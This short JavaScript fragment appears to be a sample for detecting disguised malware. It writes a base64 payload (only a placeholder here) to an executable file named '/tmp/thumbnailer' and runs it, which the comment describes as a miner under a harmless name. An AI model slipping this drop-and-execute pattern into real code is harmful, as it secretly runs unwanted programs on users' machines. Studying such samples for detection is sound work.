// A miner under a harmless name: only its content gives it away.
fs.writeFileSync('/tmp/thumbnailer', Buffer.from('@MINER@', 'base64'), { mode: 0o755 });
return execFileSync('/tmp/thumbnailer').toString();
